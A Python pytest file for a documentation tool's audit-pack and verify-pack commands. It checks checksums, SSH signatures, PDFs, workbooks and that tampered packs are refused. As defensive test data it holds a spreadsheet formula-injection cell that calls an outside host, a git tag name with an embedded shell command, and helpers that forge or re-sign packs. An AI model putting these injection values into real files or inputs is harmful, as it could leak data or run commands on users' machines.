"""smsdocs audit-pack: one approved release in one zip an auditor can verify, built from git."""

from __future__ import annotations

import contextlib
import importlib.metadata
import json
import os
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from helpers.export import Exported
from helpers.pdftags import read
from helpers.projects import PROJECTS, commit_all, git, make_project
from smsdocs import fonts, standards
from smsdocs.cli import cli
from smsdocs.signing import ssh_fingerprint

pytestmark = [pytest.mark.export]

RATIONALE_BEFORE = "The Paris office is a sales office that delivers and supports no services."
RATIONALE_AFTER = "The Paris office only sells; it delivers, supports and hosts no services at all."


def edit(root: Path, name: str, old: str, new: str) -> None:
    path = root / "scope" / name
    text = path.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


@pytest.fixture(scope="module")
def released(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The minimal project with two approved releases: v1.1.0 adds a service and rewords
    an exclusion's rationale."""
    root = make_project(tmp_path_factory.mktemp("pack") / "repo", PROJECTS / "minimal" / "scope")
    commit_all(root, "first scope")
    git(root, "tag", "-a", "v1.0.0", "-m", "Scope approved at MR-1")
    edit(
        root,
        "services.yaml",
        "  - id: backup\n",
        "  - id: archive\n    name: Long-Term Archive\n    summary: Seven-year storage.\n"
        "    category: Infrastructure\n    owner: manager\n    customers: [acme]\n"
        "    units: [ops]\n  - id: backup\n",
    )
    edit(root, "exclusions.yaml", RATIONALE_BEFORE, RATIONALE_AFTER)
    edit(
        root,
        "org.yaml",
        "record: MR-1}",
        "record: MR-1}\n  - {version: v1.1.0, by: boss, date: 2026-04-01, record: MR-2}",
    )
    commit_all(root, "second scope")
    git(root, "tag", "-a", "v1.1.0", "-m", "Archive service added")
    return root


def pack(root: Path, *args: str) -> tuple[int, str, str]:
    """``smsdocs audit-pack`` run in the project's folder, as a user runs it."""
    with contextlib.chdir(root):
        result = CliRunner().invoke(cli, ["audit-pack", *args], catch_exceptions=False)
    return result.exit_code, result.stdout, result.stderr


@pytest.fixture(scope="module")
def unpacked(released: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("first")
    code, stdout, stderr = pack(released, "-o", str(out))
    assert code == 0, stderr
    (written,) = out.glob("*.zip")
    assert written.name == "EX-SMS-001-v1.1.0-audit-pack.zip"
    assert stdout.startswith(f"wrote {written}")
    # The long steps are shown as they run.
    steps = [line.rpartition(" (")[0] for line in stderr.splitlines() if line.endswith(" s)")]
    assert steps == [
        "building the offline site, beside the export",
        "rendering the pages for print",
        "typesetting the PDF",
        "writing the DOCX",
        "comparing with the previous approved release",
        "writing the traceability matrix and the register",
        "reading the communication of this version at HEAD",
        "waiting for the offline site",
        "writing the zip",
    ]
    folder = tmp_path_factory.mktemp("unpacked")
    with zipfile.ZipFile(written) as archive:
        archive.extractall(folder)
    return folder


def test_the_pack_verifies_itself(unpacked: Path) -> None:
    files = sorted(p.relative_to(unpacked).as_posix() for p in unpacked.rglob("*") if p.is_file())
    assert files == [
        "README.txt",
        "SHA256SUMS",
        "approval.json",
        "changes.md",
        "changes.pdf",
        "communications.csv",
        "communications.xlsx",
        "manifest.json",
        "manual/EX-SMS-001-v1.1.0.docx",
        "manual/EX-SMS-001-v1.1.0.pdf",
        "register.csv",
        "register.xlsx",
        "site/EX-SMS-001-v1.1.0-site.zip",
        "traceability.csv",
        "traceability.xlsx",
    ]
    sums = shutil.which("sha256sum")
    if sums is None:
        pytest.skip("sha256sum is not installed")
    checked = subprocess.run(
        [sums, "-c", "SHA256SUMS"], cwd=unpacked, capture_output=True, text=True, check=False
    )
    assert checked.returncode == 0, checked.stdout + checked.stderr
    assert checked.stdout.count(": OK") == len(files) - 1
    readme = (unpacked / "README.txt").read_text(encoding="utf-8")
    assert "sha256sum -c --strict --quiet SHA256SUMS" in readme
    assert "Get-FileHash -Algorithm SHA256" in readme and "smsdocs verify-pack" in readme
    # The tag is unsigned: git verify-tag would fail, so it is not what the auditor runs.
    assert "\n  git verify-tag" not in readme and "The tag is not signed" in " ".join(
        readme.split()
    )


def test_the_packed_site_is_the_site_readers_see(unpacked: Path, tmp_path: Path) -> None:
    """The offline site in the pack is rendered for the screen, as ``bundle`` makes it: its
    charts have their dark twins, although the pack also renders the pages for print."""
    with zipfile.ZipFile(unpacked / "site" / "EX-SMS-001-v1.1.0-site.zip") as archive:
        names = set(archive.namelist())
        archive.extractall(tmp_path)
    markup = (tmp_path / "catalogue" / "infrastructure" / "archive.html").read_text("utf-8")
    assert "Long-Term Archive" in markup
    assert "dependencies-archive.svg#only-light" in markup
    assert "dependencies-archive-dark.svg#only-dark" in markup
    assert "assets/smsdocs/dependencies-archive-dark.svg" in names
    assert "index.html" in names and "search/search_index.js" in names


def test_the_changes_annex_names_entries_with_both_texts(unpacked: Path) -> None:
    changes = (unpacked / "changes.md").read_text(encoding="utf-8")
    assert changes.startswith(
        "# Changes in the scope from `v1.0.0` to `v1.1.0`\n\n"
        "Example Services Ltd, Service Management System Manual (EX-SMS-001). Version `v1.1.0` "
        "was approved by Alex Boss on 2026-04-01 (record MR-2). It is compared with the "
        "previous approved release, `v1.0.0`, approved by Alex Boss on 2026-03-02 (record "
        "MR-1).\n"
    )
    assert "\n## Services\n" in changes and "\n## Exclusions\n" in changes
    assert "| added | Long-Term Archive (`archive`) |" in changes
    rationale = next(line for line in changes.splitlines() if "| rationale |" in line)
    assert RATIONALE_BEFORE in rationale and RATIONALE_AFTER in rationale
    import pymupdf

    annex = pymupdf.open(unpacked / "changes.pdf")
    words = " ".join(" ".join(page.get_text().split()) for page in annex)
    assert "Changes in the scope from v1.0.0 to v1.1.0" in words
    assert "Long-Term Archive" in words and "EX-SMS-001 · v1.1.0 · Internal" in words
    assert " ".join(RATIONALE_AFTER.split()) in words
    assert annex.metadata["title"] == "Changes in the scope from v1.0.0 to v1.1.0"
    # Archival and accessible, as the manual is: PDF/A-2a and PDF/UA-1, every page tagged.

    tagged = read(unpacked / "changes.pdf")
    assert not tagged.problems
    assert tagged.marked_pages == len(annex)
    meta = tagged.metadata
    assert (meta["pdfuaid:part"], meta["pdfaid:part"], meta["pdfaid:conformance"]) == (
        "1",
        "2",
        "A",
    )
    assert tagged.kinds["/Table"] == 3 and tagged.headings[:2] == [1, 2]


def test_the_matrix_and_the_register_open_as_workbooks(unpacked: Path) -> None:
    sheet = load_workbook(unpacked / "traceability.xlsx").active
    assert sheet is not None
    clauses = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert [str(c) for c in clauses] == list(standards.CLAUSES)
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref
    # Chapters by their titles in the contents, not their files.
    rows = {str(row[0]): row for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert "Context and scope" in str(rows["4.3"][2]) and ".md" not in str(rows["4.3"][2])
    # Printed: landscape A4, one page wide, the header row on every page, page numbers.
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.sheet_properties.pageSetUpPr is not None
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    # One page wide (1 is the default, which writers may leave out), any number long.
    assert sheet.page_setup.fitToWidth in (None, 1) and sheet.page_setup.fitToHeight == 0
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.oddFooter is not None and sheet.oddHeader is not None
    assert sheet.oddFooter.right.text == "Page &P of &N"
    assert sheet.oddHeader.left.text == "Clause traceability · EX-SMS-001 · v1.1.0 · Internal"
    register = load_workbook(unpacked / "register.xlsx").active
    assert register is not None
    items = {row[0] for row in register.iter_rows(min_row=2, values_only=True)}
    assert items == {title for _, title in standards.DOCUMENTED_INFORMATION}


@pytest.mark.client
def test_the_workbooks_are_valid_ooxml_that_excel_opens_cleanly(unpacked: Path) -> None:
    pytest.importorskip("openxml_audit", reason="openxml-audit is not installed")
    for name in ("traceability.xlsx", "register.xlsx"):
        result = subprocess.run(
            [sys.executable, "-m", "openxml_audit", str(unpacked / name), "--max-errors", "0"],
            capture_output=True,
            text=True,
            check=False,
        )
        assert "Errors: 0" in result.stdout and "Warnings:" not in result.stdout, result.stdout
        assert "expected to open cleanly" in result.stdout, result.stdout


@pytest.mark.client
def test_libreoffice_reads_the_workbook_as_the_csv_says(unpacked: Path, tmp_path: Path) -> None:
    office = shutil.which("soffice")
    if office is None:
        pytest.skip("LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
    proc = subprocess.run(
        [
            office,
            "--headless",
            "--convert-to",
            "csv",
            "--outdir",
            str(tmp_path),
            str(unpacked / "traceability.xlsx"),
        ],
        capture_output=True,
        text=True,
        check=False,
        timeout=180,
    )
    converted = tmp_path / "traceability.csv"
    if not converted.is_file():
        pytest.skip(f"LibreOffice cannot open spreadsheets here (no Calc): {proc.stderr[-200:]}")
    expected = (unpacked / "traceability.csv").read_text(encoding="utf-8")
    assert converted.read_text(encoding="utf-8") == expected


def test_the_approval_record_says_who_tagged_and_that_it_is_unsigned(unpacked: Path) -> None:
    record = json.loads((unpacked / "approval.json").read_text(encoding="utf-8"))
    assert record["approval"] == {
        "by": "Alex Boss",
        "by_id": "boss",
        "date": "2026-04-01",
        "record": "MR-2",
    }
    assert record["tag"]["name"] == "v1.1.0" and record["tag"]["tagger"] == "Test"
    assert record["signature"] == "unsigned"
    assert record["signed_by"] == ""
    # The manual in the pack says so too, in its release history, in the PDF and the DOCX.
    import docx
    import pymupdf

    pdf = pymupdf.open(unpacked / "manual" / "EX-SMS-001-v1.1.0.pdf")
    words = " ".join(" ".join(page.get_text().split()) for page in pdf)
    assert words.count("Signature The tag is not signed") == 2  # v1.1.0 and v1.0.0
    document = docx.Document(str(unpacked / "manual" / "EX-SMS-001-v1.1.0.docx"))
    cells = [c.text for t in document.tables for row in t.rows for c in row.cells]
    assert cells.count("The tag is not signed") == 2
    manifest = json.loads((unpacked / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["ref"] == "v1.1.0" and manifest["commit"] == record["commit"]
    assert manifest["tag_object"] == record["tag"]["object"]
    assert manifest["pandoc"] and manifest["typst"] and manifest["draft"] is False
    assert manifest["babel"] == importlib.metadata.version("babel")  # dates, numbers
    # The fonts the PDF may be typeset with, by package and version.
    assert sorted(manifest["fonts"]) == sorted(n.replace("_", "-") for n in fonts.SHIPPED) and all(
        manifest["fonts"].values()
    )


def test_a_second_pack_of_the_tag_is_the_same_bytes(
    released: Path, unpacked: Path, tmp_path: Path
) -> None:
    code, _, stderr = pack(released, "v1.1.0", "-o", str(tmp_path))
    assert code == 0, stderr
    (again,) = tmp_path.glob("*.zip")
    first = next(unpacked.parent.glob("first*/*.zip"))
    assert again.read_bytes() == first.read_bytes()


def test_the_packed_manual_is_what_export_makes_of_the_release(
    released: Path, unpacked: Path, tmp_path: Path
) -> None:
    """The pack and ``smsdocs export`` take one pipeline: exported at the release's commit,
    the manual is the packed manual, byte for byte."""
    assert git(released, "describe", "--exact-match") == "v1.1.0"
    with contextlib.chdir(released):
        result = CliRunner().invoke(cli, ["export", "-o", str(tmp_path)], catch_exceptions=False)
    assert result.exit_code == 0, result.stderr
    for name in ("EX-SMS-001-v1.1.0.pdf", "EX-SMS-001-v1.1.0.docx"):
        assert (tmp_path / name).read_bytes() == (unpacked / "manual" / name).read_bytes(), name


def test_only_an_approved_release_is_packed(released: Path, tmp_path: Path) -> None:
    (released / "notes.txt").write_text("work in progress")  # never in a pack
    code, stdout, stderr = pack(released, "HEAD~1", "-o", str(tmp_path))
    assert stdout == ""
    assert code == 1
    assert stderr == (
        "error: 'HEAD~1' is not an approved release: no annotated tag of that name has its "
        "approval recorded (approved: v1.1.0, v1.0.0); pack an approved release, or pass "
        "--draft to pack it marked DRAFT\n"
    )
    assert list(tmp_path.iterdir()) == []
    code, stdout, stderr = pack(released, "no-such-ref", "--draft", "-o", str(tmp_path))
    assert (code, stdout) == (1, "")
    assert stderr == (
        "error: 'no-such-ref' names no commit in this repository; name a release tag "
        "(git tag -l), a branch or a commit\n"
    )
    code, _, stderr = pack(released, "HEAD~1", "--draft", "-o", str(tmp_path))
    assert code == 0, stderr
    (draft,) = tmp_path.glob("*.zip")
    assert draft.name.endswith("-audit-pack-DRAFT.zip")
    with zipfile.ZipFile(draft) as archive:
        assert "notes.txt" not in " ".join(archive.namelist())
        assert "DRAFT" in archive.read("README.txt").decode()
        changes = archive.read("changes.md").decode()
        assert json.loads(archive.read("manifest.json"))["draft"] is True
    # HEAD~1 is v1.0.0's commit: there is no approved release before it to compare with,
    # and v1.1.0, tagged later, is not one.
    assert changes.startswith("# DRAFT: Changes in the scope from — to `HEAD~1`\n")
    assert "Version `HEAD~1` is not an approved release: this annex is a DRAFT" in changes
    assert "No earlier approved release is in its history to compare with." in changes
    (released / "notes.txt").unlink()


def test_a_signed_tag_is_said_to_verify_and_the_sums_are_signed(
    released: Path, tmp_path: Path
) -> None:
    keygen = shutil.which("ssh-keygen")
    if keygen is None:
        pytest.skip("ssh-keygen is not installed")
    key = tmp_path / "key"
    subprocess.run([keygen, "-q", "-t", "ed25519", "-N", "", "-f", str(key)], check=True)
    public = (tmp_path / "key.pub").read_text(encoding="utf-8").strip()
    allowed = tmp_path / "allowed_signers"
    allowed.write_text(f"test@example.invalid {public}\n", encoding="utf-8")
    git(released, "config", "gpg.format", "ssh")
    git(released, "config", "user.signingkey", str(key))
    git(released, "config", "gpg.ssh.allowedSignersFile", str(allowed))
    git(released, "tag", "-s", "-f", "v1.1.0", "-m", "Archive service added (signed)")
    try:
        code, _, stderr = pack(released, "--sign", "-o", str(tmp_path / "out"))
        assert code == 0, stderr
        (written,) = (tmp_path / "out").glob("*.zip")
        with zipfile.ZipFile(written) as archive:
            record = json.loads(archive.read("approval.json"))
            archive.extractall(tmp_path / "unpacked")
        assert record["signature"] == "signed, verified"
        fingerprint = ssh_fingerprint(public)
        assert record["signed_by"] == f"test@example.invalid, ED25519 key {fingerprint}"
        # --sign: SHA256SUMS signed with the same key, and the README says how to check it.
        unpacked = tmp_path / "unpacked"
        readme = (unpacked / "README.txt").read_text(encoding="utf-8")
        assert "ssh-keygen -Y verify -f allowed_signers -I signer -n file" in readme
        assert f"with the SSH key {fingerprint};" in readme
        assert str(key) not in readme  # never the path of the packer's private key
        assert (unpacked / "signer.pub").read_text(encoding="utf-8").strip() == public
        with (unpacked / "SHA256SUMS").open("rb") as sums:
            signed = str(unpacked / "SHA256SUMS.sig")
            verified = subprocess.run(
                [
                    keygen,
                    "-Y",
                    "verify",
                    "-f",
                    str(allowed),
                    "-I",
                    "test@example.invalid",
                    "-n",
                    "file",
                    "-s",
                    signed,
                ],
                stdin=sums,
                capture_output=True,
                text=True,
                check=False,
            )
        assert verified.returncode == 0, verified.stderr
        assert 'Good "file" signature for test@example.invalid' in verified.stdout
    finally:
        git(released, "tag", "-a", "-f", "v1.1.0", "-m", "Archive service added")
        for name in ("gpg.ssh.allowedSignersFile", "user.signingkey", "gpg.format"):
            git(released, "config", "--unset", name)


def test_a_failed_pack_leaves_no_zip(released: Path, tmp_path: Path) -> None:
    """A release whose scope does not pass the check cannot be packed, and nothing is
    written: no zip, and no half of one."""
    edit(released, "services.yaml", "    owner: manager\n", "    owner: nobody\n")
    commit_all(released, "a broken scope")
    try:
        code, stdout, stderr = pack(released, "HEAD", "--draft", "-o", str(tmp_path))
        assert code != 0 and stdout == ""
        assert "error" in stderr and "Traceback" not in stderr
        assert list(tmp_path.iterdir()) == []
    finally:
        git(released, "reset", "-q", "--hard", "HEAD~1")


HOSTILE_CELL = '=HYPERLINK("http://example.invalid/?"&A1,"Open")'


@pytest.mark.client
def test_text_in_the_workbooks_is_never_a_formula(tmp_path: Path) -> None:
    """A document titled like a formula is shown as its text by a spreadsheet, from the XLSX
    and from the CSV alike (CSV injection): nothing in the pack runs when it is opened."""
    from smsdocs.pack.workbooks import _tables

    rows = [["Document", "Owner"], [HOSTILE_CELL, "@SUM(1+1)"], ["-2+3", "Sam Manager"]]
    _tables(tmp_path, "register", "Documented information", "EX · v1 · Internal", rows, 0)
    sheet = load_workbook(tmp_path / "register.xlsx").active
    assert sheet is not None
    cells = [c for line in sheet.iter_rows(min_row=2) for c in line]
    assert [c.value for c in cells] == [HOSTILE_CELL, "@SUM(1+1)", "-2+3", "Sam Manager"]
    assert {c.data_type for c in cells} == {"s"}
    text = (tmp_path / "register.csv").read_text(encoding="utf-8").splitlines()
    assert text[1] == '"\'=HYPERLINK(""http://example.invalid/?""&A1,""Open"")",\'@SUM(1+1)'
    assert text[2] == "'-2+3,Sam Manager"

    office = shutil.which("soffice")
    if office is None:
        return
    for name in ("register.xlsx", "register.csv"):
        out = tmp_path / name.replace(".", "-")
        subprocess.run(
            [
                office,
                "--headless",
                "--convert-to",
                "csv",
                "--outdir",
                str(out),
                str(tmp_path / name),
            ],
            capture_output=True,
            check=False,
            timeout=180,
        )
        converted = out / "register.csv"
        if not converted.is_file():
            pytest.skip("LibreOffice cannot open spreadsheets here (no Calc)")
        shown = converted.read_text(encoding="utf-8")
        # The text as written, never the formula's result ('Open', 2).
        assert "HYPERLINK" in shown and "SUM(1+1)" in shown and "-2+3" in shown, shown


def test_a_ref_named_like_markup_is_shown_as_written(released: Path, tmp_path: Path) -> None:
    """Git lets a branch be named 'review<b>&$x$': the annex shows that name as written, in
    its Markdown, its PDF and the PDF's title, never as markup or mathematics. (The branch
    is at v1.1.0's commit, so the release before it is v1.0.0.)"""
    name = "review<b>&$x$"
    git(released, "branch", name, "v1.1.0")
    try:
        code, _, stderr = pack(released, name, "--draft", "-o", str(tmp_path))
        assert code == 0, stderr
        (written,) = tmp_path.glob("*.zip")
        with zipfile.ZipFile(written) as archive:
            changes = archive.read("changes.md").decode()
            (tmp_path / "changes.pdf").write_bytes(archive.read("changes.pdf"))
    finally:
        git(released, "branch", "-D", name)
    assert changes.startswith("# DRAFT: Changes in the scope from `v1.0.0` to `review<b>&$x$`\n")
    import pymupdf

    annex = pymupdf.open(tmp_path / "changes.pdf")
    assert annex.metadata["title"] == f"DRAFT: Changes in the scope from v1.0.0 to {name}"
    assert f"to {name}" in " ".join(annex[0].get_text().split())


def test_the_examples_pack_shows_what_its_newest_release_changed(
    example_released: Exported, tmp_path: Path
) -> None:
    """The example's v1.2.0 replaced a supplier and re-approved a changed exclusion: its
    audit pack's changes annex shows both, in its Markdown and its PDF."""
    project = tmp_path / "example"
    shutil.copytree(example_released.project, project, symlinks=True)
    code, _, stderr = pack(project, "-o", str(tmp_path / "out"))
    assert code == 0, stderr
    (written,) = (tmp_path / "out").glob("*.zip")
    with zipfile.ZipFile(written) as archive:
        changes = archive.read("changes.md").decode("utf-8")
        (tmp_path / "changes.pdf").write_bytes(archive.read("changes.pdf"))
    assert changes.startswith("# Changes in the scope from `v1.1.0` to `v1.2.0`\n")
    assert "| removed | Kestrel Device Services Ltd (`kestrel-devices`) | type |" in changes
    assert "| added | Sterling Device Logistics Ltd (`sterling-devices`) | type |" in changes
    assert (
        "| changed | Device imaging and logistics depot (`device-depot`) | provided&#95;by | "
        "Kestrel Device Services Ltd | Sterling Device Logistics Ltd |"
    ) in changes
    assert "|  |  | approved&#95;by | Helen Marsh | Rachel Dunmore |" in changes
    import pymupdf

    words = " ".join(
        " ".join(page.get_text().split()) for page in pymupdf.open(tmp_path / "changes.pdf")
    )
    assert "Kestrel Device Services Ltd" in words and "Sterling Device Logistics Ltd" in words
    assert "Exclusion of Apex Integration Partners Ltd" in words


# -- verifying a pack: smsdocs verify-pack and the README.txt's standard-tool steps -------


def keypair(folder: Path, name: str) -> tuple[Path, str]:
    """A new SSH key in ``folder``: its private key's file and its public key line."""
    keygen = shutil.which("ssh-keygen")
    if keygen is None:
        pytest.skip("ssh-keygen is not installed")
    key = folder / name
    subprocess.run(
        [keygen, "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", str(key)], check=True
    )
    return key, (folder / f"{name}.pub").read_text(encoding="utf-8").strip()


@pytest.fixture(scope="module")
def signed_pack(released: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """v1.1.0 packed with --sign, by an SSH key given as '~/…' as git reads it: the zip,
    and the organisation's published key (the key's public half)."""
    home = tmp_path_factory.mktemp("home")
    (home / ".ssh").mkdir()
    key, _ = keypair(home / ".ssh", "id_pack")
    out = tmp_path_factory.mktemp("signed")
    git(released, "config", "gpg.format", "ssh")
    git(released, "config", "user.signingkey", "~/.ssh/id_pack")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("HOME", str(home))
        try:
            code, _, stderr = pack(released, "v1.1.0", "--sign", "-o", str(out))
        finally:
            for name in ("user.signingkey", "gpg.format"):
                git(released, "config", "--unset", name)
    assert code == 0, stderr
    (written,) = out.glob("*.zip")
    published = out.parent / "published.pub"
    shutil.copy(key.with_name("id_pack.pub"), published)
    return written, published


def entries(path: Path) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(path) as archive:
        return [(i.filename, archive.read(i)) for i in archive.infolist()]


def write_zip(path: Path, files: list[tuple[str, bytes]]) -> Path:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # "Duplicate name": that is the point
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in files:
                archive.writestr(name, data)
    return path


def resummed(files: list[tuple[str, bytes]]) -> list[tuple[str, bytes]]:
    """The files with SHA256SUMS made again over them, as a forger would."""
    import hashlib

    kept = [(n, d) for n, d in files if n not in ("SHA256SUMS", "SHA256SUMS.sig")]
    sums = "".join(f"{hashlib.sha256(d).hexdigest()}  {n}\n" for n, d in sorted(kept))
    return [*kept, ("SHA256SUMS", sums.encode())]


def with_manifest(files: list[tuple[str, bytes]], signature: object) -> list[tuple[str, bytes]]:
    def edited(name: str, data: bytes) -> bytes:
        if name != "manifest.json":
            return data
        return json.dumps({**json.loads(data), "signature": signature}, indent=2).encode()

    return [(n, edited(n, d)) for n, d in files]


def ssh_sign(key: Path, data: bytes, folder: Path) -> bytes:
    target = folder / "SHA256SUMS"
    target.write_bytes(data)
    subprocess.run(
        ["ssh-keygen", "-q", "-Y", "sign", "-f", str(key), "-n", "file", str(target)], check=True
    )
    return (folder / "SHA256SUMS.sig").read_bytes()


def tampered(honest: Path, how: str, folder: Path) -> Path:
    """The pack ``honest`` changed as ``how`` says, under the same name, in ``folder``."""
    files = entries(honest)
    if how == "add":
        files.append(("notes/extra.txt", b"an added file\n"))
    elif how == "duplicate":
        files.append(("approval.json", b'{"approval": "forged"}\n'))
    elif how == "drop":
        files = [(n, d) for n, d in files if n != "register.csv"]
    elif how == "change":
        files = [
            (n, d.replace(b"Archive", b"Arcgive", 1) if n == "changes.md" else d) for n, d in files
        ]
    elif how == "drop signature":
        files = [(n, d) for n, d in files if n != "SHA256SUMS.sig"]
    elif how == "strip signature":
        # The signature, the public key, the manifest's record and README.txt's paragraph
        # all gone, and SHA256SUMS made again: a pack consistent in itself, unsigned.
        files = with_manifest(files, None)
        files = [(n, d) for n, d in files if n not in ("signer.pub", "SHA256SUMS.sig")]
        files = [
            (n, re.sub(rb"\nThe signature\..*?(?=\nThe release)", b"", d, flags=re.S))
            if n == "README.txt"
            else (n, d)
            for n, d in files
        ]
        files = resummed(files)
    elif how == "swap key":
        # Signed again by another key, whose public half and fingerprint replace the
        # signer's: a pack consistent in itself, signed by someone else.
        other, public = keypair(folder, "other")
        files = [(n, public.encode() + b"\n" if n == "signer.pub" else d) for n, d in files]
        signature = {
            "file": "SHA256SUMS.sig",
            "kind": "ssh",
            "fingerprint": ssh_fingerprint(public),
            "public_key": "signer.pub",
        }
        files = resummed(with_manifest(files, signature))
        sums = dict(files)["SHA256SUMS"]
        files.append(("SHA256SUMS.sig", ssh_sign(other, sums, folder)))
    else:
        raise AssertionError(how)
    return write_zip(folder / honest.name, files)


def verify(path: Path, *key: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, ["verify-pack", str(path), *key], catch_exceptions=False)
    return result.exit_code, result.stdout, result.stderr


def block(readme: str, start: str, end: str | None) -> str:
    """The commands README.txt gives after the line starting with ``start`` (up to the one
    starting with ``end``): its lines indented by two spaces, as an auditor pastes them."""
    lines = readme.splitlines()
    first = next(n for n, line in enumerate(lines) if line.startswith(start))
    taken = []
    for line in lines[first + 1 :]:
        if end is not None and line.startswith(end):
            break
        if line.startswith("  "):
            taken.append(line[2:])
    return "\n".join(taken)


def standard_steps(pack_zip: Path, folder: Path, published: Path | None, honest: str) -> bool:
    """Whether README.txt's standard-tool steps pass for ``pack_zip``, run with bash in an
    empty ``folder`` as an auditor would: the files (README.txt of the pack at hand), then,
    for an organisation that signs its packs, the signature with its ``published`` key (the
    steps of the ``honest`` README.txt, which a stripped pack no longer tells)."""
    folder.mkdir()
    shutil.copy(pack_zip, folder / pack_zip.name)
    with zipfile.ZipFile(pack_zip) as archive:
        readme = archive.read("README.txt").decode("utf-8")
    files = subprocess.run(
        ["bash", "-c", block(readme, "Linux and macOS", "Windows")],
        cwd=folder,
        capture_output=True,
        text=True,
        check=False,
    )
    passed = files.returncode == 0 and files.stdout.endswith("every file verified\n")
    if published is None or not passed:
        return passed
    shutil.copy(published, folder / "published.pub")
    signature = subprocess.run(
        ["bash", "-c", block(honest, "The signature.", "On Windows")],
        cwd=folder,
        capture_output=True,
        text=True,
        check=False,
    )
    fingerprint = ssh_fingerprint((folder / "published.pub").read_text(encoding="utf-8"))
    return (
        signature.returncode == 0
        and fingerprint in signature.stdout
        and 'Good "file" signature for signer' in signature.stdout + signature.stderr
    )


def test_an_honest_pack_verifies_and_says_what_it_proves(
    unpacked: Path, signed_pack: tuple[Path, Path], tmp_path: Path
) -> None:
    first = next(unpacked.parent.glob("first*/*.zip"))
    code, stdout, stderr = verify(first)
    assert (code, stderr) == (0, "")
    assert stdout.startswith(
        f"verified: {first.name}\n"
        "  files: the 14 files SHA256SUMS lists are in the pack, each once and unchanged, and "
        "it holds nothing else but SHA256SUMS\n"
        "  signature: none; the pack is unsigned, so it does not prove who made it"
    )
    assert standard_steps(first, tmp_path / "unsigned", None, "")
    signed, published = signed_pack
    fingerprint = ssh_fingerprint(published.read_text(encoding="utf-8"))
    code, stdout, stderr = verify(signed)
    assert (code, stderr) == (0, "")
    assert (
        f"  signature: SHA256SUMS is signed by the SSH key {fingerprint}, which the pack "
        "carries: compare it with the organisation's published key" in stdout
    )
    code, stdout, stderr = verify(signed, "--key", str(published))
    assert (code, stderr) == (0, "")
    assert f"signed by the SSH key {fingerprint}, the key you gave (--key)\n" in stdout
    honest = zipfile.ZipFile(signed).read("README.txt").decode("utf-8")
    assert standard_steps(signed, tmp_path / "signed", published, honest)
    manifest = json.loads(zipfile.ZipFile(signed).read("manifest.json"))
    assert manifest["signature"] == {
        "file": "SHA256SUMS.sig",
        "kind": "ssh",
        "fingerprint": fingerprint,
        "public_key": "signer.pub",
    }


REFUSED = {
    "add": "'notes/extra.txt' is in the pack but SHA256SUMS does not list it: a file was added",
    "duplicate": "'approval.json' is in the zip twice: a pack holds each file once",
    "drop": "'register.csv' is listed in SHA256SUMS but not in the pack",
    "change": "'changes.md' has changed: its SHA-256 is not the one SHA256SUMS lists",
}


@pytest.mark.parametrize("how", sorted(REFUSED))
def test_a_tampered_unsigned_pack_is_refused(unpacked: Path, tmp_path: Path, how: str) -> None:
    first = next(unpacked.parent.glob("first*/*.zip"))
    forged = tampered(first, how, tmp_path)
    code, stdout, stderr = verify(forged)
    assert (code, stdout) == (1, "")
    assert stderr == f"error: {forged.name}: {REFUSED[how]}\n"
    assert not standard_steps(forged, tmp_path / "audit", None, "")


SIGNED_REFUSED = {
    **REFUSED,
    "drop signature": "manifest.json says SHA256SUMS is signed by {fingerprint} "
    "(SHA256SUMS.sig), but SHA256SUMS.sig is not in the pack: the signature was removed",
    "strip signature": "the pack is not signed, but you asked for a signature by "
    "{fingerprint} (--key): a signature was removed, or the pack was never signed",
    "swap key": "the pack is signed by {other}, not by the key you gave ({fingerprint})",
}


@pytest.mark.parametrize("how", sorted(SIGNED_REFUSED))
def test_a_tampered_signed_pack_is_refused(
    signed_pack: tuple[Path, Path], tmp_path: Path, how: str
) -> None:
    """Each change is refused by verify-pack given the organisation's key, and by the
    README.txt's standard steps with that key; a dropped signature even without the key,
    since the manifest, covered by SHA256SUMS, says the pack is signed."""
    signed, published = signed_pack
    forged = tampered(signed, how, tmp_path)
    fingerprint = ssh_fingerprint(published.read_text(encoding="utf-8"))
    other = (tmp_path / "other.pub").read_text() if how == "swap key" else ""
    expected = SIGNED_REFUSED[how].format(
        fingerprint=fingerprint, other=ssh_fingerprint(other) if other else ""
    )
    code, stdout, stderr = verify(forged, "--key", str(published))
    assert (code, stdout) == (1, "")
    assert stderr == f"error: {forged.name}: {expected}\n"
    honest = zipfile.ZipFile(signed).read("README.txt").decode("utf-8")
    assert not standard_steps(forged, tmp_path / "audit", published, honest)
    code, stdout, _ = verify(forged)
    if how == "drop signature":
        assert code == 1
    if how == "strip signature":
        # Consistent in itself: without the organisation's key it verifies as what it now
        # is, an unsigned pack that proves nothing of who made it.
        assert code == 0 and "the pack is unsigned, so it does not prove who made it" in stdout
    if how == "swap key":
        # Signed by another key, which verify-pack names for the auditor to compare.
        assert code == 0 and ssh_fingerprint(other) in stdout and fingerprint not in stdout


HOSTILE_TAG = "v1.3.0$(touch${IFS}x)"
HOSTILE_ORGANISATION = "Example Services Ltd\\n  touch x\\n\\nsha256sum -c SHA256SUMS; touch x"


def test_names_in_readme_are_data_and_nothing_runs(released: Path, tmp_path: Path) -> None:
    """A tag name git accepts that holds a command, and an organisation name with line
    breaks: README.txt's commands, pasted into bash as the auditor is told to, run nothing
    (no file 'x' appears), and no name starts a line of its own."""
